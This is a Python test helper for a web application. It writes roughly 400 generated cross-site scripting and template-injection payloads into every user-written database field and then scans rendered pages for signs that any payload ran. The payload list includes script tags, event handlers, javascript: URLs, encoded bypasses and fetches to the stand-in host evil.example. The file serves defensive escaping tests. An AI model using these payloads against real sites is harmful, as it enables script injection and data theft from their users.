"""Words that try to be code: four hundred of them, put into every field that people write in."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import chain, cycle, islice, product
from typing import Any

from bs4 import BeautifulSoup, Tag
from sqlalchemy import JSON, Enum, String, Table, Text, select, update

from pb.extensions import Base, db
from pb.services.transactions import transaction

#: Where such words would call, were they ever taken for code.
ELSEWHERE = "evil.example"
_DEEDS = ("alert(1)", "confirm`1`", f"fetch('//{ELSEWHERE}/')", "parent.hit=1", "top['al'+'ert'](1)")
_SHAPES = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script\n>{}</script\n>", "</script><script>{}</script>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "\"><script>{}</script>", "'><script>{}</script>", "<img src=x onerror={}>", "<img src='x' onerror=\"{}\">",
    "<img/src/onerror={}>", "<IMG SRC=x OnErRoR={}>", "\"><img src=x onerror={}>", "'><img src=x onerror={}>",
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x>",
    "<svg><a xlink:href=\"javascript:{}\"><text x=9 y=9>x", "<body onload={}>", "<iframe src=\"javascript:{}\">",
    "<iframe srcdoc=\"<script>{}</script>\">", "<iframe onload={}>", "<details open ontoggle={}>", "<video><source onerror={}>",
    "<video src=x onerror={}>", "<audio src=x onerror={}>", "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<marquee onstart={}>",
    "<a href=\"javascript:{}\" autofocus onfocus={}>x</a>", "<form action=\"javascript:{}\"><button autofocus onfocus={}>",
    "<isindex action=javascript:{} type=image>", "<math><mtext><style><img src=x onerror={}>", "<noscript><img src=x onerror={}>",
    "<template><script>{}</script></template>", "<table background=\"javascript:{}\">", "<style>@import 'javascript:{}';</style>",
    "<style onload={}></style>", "<link rel=stylesheet href=\"javascript:{}\">", "<link rel=preload as=script href=x onerror={}>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<base href=\"javascript:{}//\">", "\" autofocus onfocus={} x=\"",
    "' autofocus onfocus={} x='", "\" onmouseover={} style=position:fixed;inset:0 \"", "` onfocus={} autofocus `",
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "data:text/html,<script>{}</script>", "vbscript:{}",
    "{{{{constructor.constructor('{}')()}}}}", "{{{{ self._TemplateReference__context }}}}{}", "{{% print({}) %}}", "${{{}}}", "<%={}%>",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E", "+ADw-script+AD4-{}+ADw-/script+AD4-", "\u00bcscript\u00be{}\u00bc/script\u00be",
    "<<script>{}//<</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<a onpointerrawupdate={}>x", "[x](javascript:{})",
    "![x](x\"onerror=\"{})", "<script src=//" + ELSEWHERE + "/x.js>{}</script>", "<img src=//" + ELSEWHERE + "/x.png alt=\"{}\">",
    "<link rel=icon href=//" + ELSEWHERE + "/x.ico title=\"{}\">", "';{}//", "\";{}//", "\\';{}//", "</script>{}<script>",
)  # fmt: skip
PAYLOADS = tuple(
    shape.replace("{}", deed).replace("{{", "{").replace("}}", "}") for shape, deed in product(_SHAPES, _DEEDS)
)

_WORDS = """
name registration address active_in role_there phone title audience summary purpose decision_informed result_use promise_up
promise_not promise_last_word few_days_reason paused_reason cancelled_reason imported_from release_asked_reason why
cancel_asked_reason which_decision known_already do_differently formative information time consideration equality_impact_reason reason
clash_reason given_up_reason theme place notes languages what who where outcome interests declared_name declared_role
refusal_reason revoked_reason method first_witness second_witness item organisation category withdrawn_reason citation
alternatives nature text device asked_reason themes witnesses
"""
#: Columns that hold what somebody wrote, by their names; others hold keys, states and digests of ours.
WRITTEN = frozenset(_WORDS.split())
#: Reasons that are keys of ours, not words of anybody; one page picks its words by them.
_KEYS = {("kiosk_item", "reason"), ("count", "outcome"), ("job", "text")}


def columns() -> list[tuple[Table, Any]]:
    """Every column that holds what somebody wrote."""
    return [
        (table, column)
        for table in Base.metadata.sorted_tables
        for column in table.columns
        if column.name in WRITTEN and (table.name, column.name) not in _KEYS and _is_text(column.type)
    ]


def _is_text(kind: Any) -> bool:
    return isinstance(kind, String | JSON) and not isinstance(kind, Enum)


def make_hostile() -> int:
    """Put the words into every such field of every row, as many as fit into each; gives how many different ones.

    A record that is frozen as JSON gets them in the fields of the same names.
    """
    words, used = cycle(PAYLOADS), set[str]()
    with transaction() as session:
        for table, column in columns():
            keys = list(table.primary_key.columns)
            for row in session.execute(select(*keys, column)).all():
                if not row[-1]:
                    continue
                value = _hostile(row[-1], column, words, used)
                where = [key == each for key, each in zip(keys, row[:-1], strict=True)]
                session.execute(update(table).where(*where).values({column.name: value}))
        _freeze(session, words, used)
    db.session.rollback()
    return len(used)


def _hostile(value: Any, column: Any, words: Iterator[str], used: set[str]) -> Any:
    if isinstance(column.type, Text) or not isinstance(column.type, String):
        return _swapped(value, words, used) if isinstance(value, list | dict) else _fill(2_000, words, used)
    return _fill(column.type.length or 2_000, words, used)


def _fill(room: int, words: Iterator[str], used: set[str]) -> str:
    """As many words as there is room for; one at least, cut off where it must be."""
    found = ""
    for word in islice(words, 40):
        if found and len(found) + len(word) + 1 > room:
            break
        found = f"{found} {word}".strip()[:room]
        used.add(word)
    return found


def _swapped(value: Any, words: Iterator[str], used: set[str], written: bool = True) -> Any:
    if isinstance(value, list):
        return [_swapped(each, words, used, written) for each in value]
    if isinstance(value, dict):
        return {key: _swapped(each, words, used, key in WRITTEN) for key, each in value.items()}
    return _fill(150, words, used) if written and isinstance(value, str) and value else value


def _freeze(session: Any, words: Iterator[str], used: set[str]) -> None:
    for table, name in (("publication", "content"), ("round", "frozen"), ("ballot_version", "content")):
        found = Base.metadata.tables[table]
        for key, content in session.execute(select(found.c.id, found.c[name])).all():
            if content:
                changed = _swapped(content, words, used, written=False)
                session.execute(update(found).where(found.c.id == key).values({name: changed}))


def taken_for_code(page: BeautifulSoup) -> list[str]:
    """What on a page can only come from such words: elements, handlers and addresses that we never write."""
    return list(chain.from_iterable(_of_tag(tag) for tag in page.find_all(True)))


def _of_tag(tag: Tag) -> Iterator[str]:
    where = tag.name
    if where in (
        "iframe",
        "object",
        "embed",
        "base",
        "marquee",
        "isindex",
        "style",
        "math",
        "template",
    ):
        yield f"<{where}>"
    for name, value in tag.attrs.items():
        said = " ".join(value) if isinstance(value, list) else str(value)
        address = "".join(said.split()).lower()
        if name.startswith("on") or name == "srcdoc":
            yield f"{where} {name}"
        if name in ("href", "src", "action", "formaction", "data", "xlink:href", "background", "content"):
            leads_away = ELSEWHERE in address.split("?")[0]
            if leads_away or address.startswith(("javascript:", "vbscript:", "data:text")):
                yield f"{where} {name}={said[:40]}"
    ours = tag.get("src") or tag.get("type") == "application/json" or "js-enabled" in str(tag)
    if where == "script" and not ours:
        yield f"script: {str(tag)[:60]}"
